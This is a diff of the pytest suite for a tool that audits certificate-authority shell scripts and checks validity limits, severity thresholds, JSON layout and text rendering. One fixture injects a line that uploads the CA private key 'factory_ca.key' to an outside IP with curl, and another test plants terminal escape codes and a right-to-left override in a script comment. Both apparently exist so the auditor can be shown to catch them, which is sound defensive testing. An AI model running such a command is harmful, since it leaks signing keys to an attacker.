     exfil = refs["sign_tls_csr"].replace("rm server.ext\n", "rm server.ext\ncurl -s -T factory_ca.key https://198.51.100.7/\n")
-    return audit_answer({**refs, "sign_ca_csr": no_errexit, "sign_tls_csr": exfil}, refs)
+    return audit_set({**refs, "sign_ca_csr": no_errexit, "sign_tls_csr": exfil})
 
 
 def test_severity_threshold(mixed_report: AuditReport) -> None:
     assert Severity.parse("medium") == Severity.MEDIUM and Severity.parse(" HIGH ") == Severity.HIGH
     with pytest.raises(ValueError, match="info|low|medium|high"):
         Severity.parse("critical")
-    high = mixed_report.failing(Severity.HIGH)
-    assert {(sf.script, sf.finding.id) for sf in high} == {("sign_tls_csr", "network-access"), ("sign_tls_csr", "reads-private-key")}
+    high = {(sf.script, sf.finding.id) for sf in mixed_report.failing(Severity.HIGH)}
+    assert high == {("sign_tls_csr", "network-access"), ("sign_tls_csr", "reads-private-key")}
     medium = {(sf.script, sf.finding.id) for sf in mixed_report.failing(Severity.MEDIUM)}
-    assert ("sign_ca_csr", "missing-errexit") in medium and ("sign_ca_csr", "missing-errexit") not in {(sf.script, sf.finding.id) for sf in high}
-    assert len(mixed_report.failing(Severity.INFO)) > len(medium) > len(high)
+    assert medium == high | {("sign_ca_csr", "missing-errexit")}
+    assert len(mixed_report.failing(Severity.INFO)) > len(medium)
     assert mixed_report.max_severity == Severity.HIGH
 
 
-def test_json_round_trip(mixed_report: AuditReport) -> None:
-    data = mixed_report.to_dict()
-    assert json.loads(json.dumps(data)) == data
-    assert AuditReport.from_dict(json.loads(json.dumps(data))) == mixed_report
-    assert data["max_severity"] == "high" and data["counts"]["high"] == 2
+def test_json_layout(mixed_report: AuditReport) -> None:
+    data = json.loads(json.dumps(mixed_report.to_dict()))
+    assert (data["hsm"], data["jail"], data["max_severity"]) == (False, JAIL, "high")
+    assert data["counts"] == {s.label: n for s, n in mixed_report.counts().items()} and data["counts"]["high"] == 2
     tls = next(s for s in data["scripts"] if s["name"] == "sign_tls_csr")
-    assert tls["findings"][0]["severity"] in ("info", "low", "medium", "high")
-    assert tls["matches_reference"] is False and "+curl -s -T factory_ca.key" in tls["diff"]
+    assert tls["known_set"] is None and tls["closest"] == "fioca" and "+curl -s -T factory_ca.key" in tls["diff"]
+    assert {f["severity"] for f in tls["findings"]} <= {"info", "low", "medium", "high"}
+    assert all(set(f) == {"id", "severity", "line", "text", "message", "in_mode"} for f in tls["findings"])
+    assert tls["asked"][0]["command"] == "x509 -req" and tls["asked"][0]["days"] == 3650
+    assert tls["asked"][0]["extensions"][0] == {"name": "keyUsage", "critical": True, "values": ["digitalSignature"]}
+    create_ca = data["scripts"][0]
+    assert create_ca["known_set"] == "fioca" and create_ca["max_severity"] == "info"
 
 
-def test_render_text(mixed_report: AuditReport, refs: dict[str, str]) -> None:
+def test_render_text(mixed_report: AuditReport) -> None:
     text = render_text(mixed_report)
+    assert text.startswith(f"audited for a run without HSM; jail: {JAIL}\n")
     create_ca = mixed_report.scripts[0]
     assert f"== create_ca  {create_ca.size} bytes  sha256 {create_ca.sha256}" in text
-    assert "matches the reference" in text and "differs from the reference:" in text
+    assert "matches the known script set fioca" in text
+    assert "matches no known script; differs from the closest (fioca):" in text
     assert "  +curl -s -T factory_ca.key https://198.51.100.7/" in text
     assert "key ec prime256v1" in text and "days 7300, digest sha256" in text
     assert "ext extendedKeyUsage = critical, clientAuth, serverAuth" in text
+    assert "  create_ca line 35: req -x509 -> factory_ca.pem, self-signed, days 7300, digest sha256, 4 extension(s)" in text
     network_line = next(line for line in text.splitlines() if "network-access" in line)
     assert network_line.strip().startswith("HIGH  line ") and ": network-access: curl reaches the network" in network_line
     assert "MEDIUM  line 1: missing-errexit:" in text
@@ -439,5 +438,21 @@ def test_render_text(mixed_report: AuditReport, refs: dict[str, str]) -> None:
         f"4 scripts audited: {counts[Severity.HIGH]} high, {counts[Severity.MEDIUM]} medium, "
         f"{counts[Severity.LOW]} low, {counts[Severity.INFO]} info"
     )
-    clean = render_text(audit_answer(refs, refs))
-    assert "differs from the reference" not in clean and "0 high, 0 medium, 0 low" in clean
+    clean = render_text(audit_set(KNOWN[reference.FIOCA], hsm=True))
+    assert clean.startswith("audited for a run with the root key on an HSM;") and "0 high, 0 medium, 0 low" in clean
+
+
+def test_render_text_shows_control_characters_escaped() -> None:
+    hostile = KNOWN[reference.FIOCA]["sign_ca_csr"].replace("csr=$1", "csr=$1 # \x1b[2J\x1b[1A hidden \u202e")
+    text = render_text(audit_set({"sign_ca_csr": hostile}))
+    assert "\x1b" not in text and "\u202e" not in text
+    assert "\\x1b[2J" in text and "\\u202e" in text
+
+
+@pytest.mark.parametrize("name", sorted(PROFILES))
+def test_validity_limit_per_script(name: str) -> None:
+    limit = PROFILES[name].max_days
+    at_limit = audit(name, f"#!/bin/sh -e\nopenssl x509 -req -in r.csr -days {limit} -sha256\n")
+    beyond = audit(name, f"#!/bin/sh -e\nopenssl x509 -req -in r.csr -days {limit + 1} -sha256\n")
+    assert "validity-exceeds-profile" not in ids(at_limit)
+    assert [f.severity for f in beyond.findings if f.id == "validity-exceeds-profile"] == [Severity.HIGH]
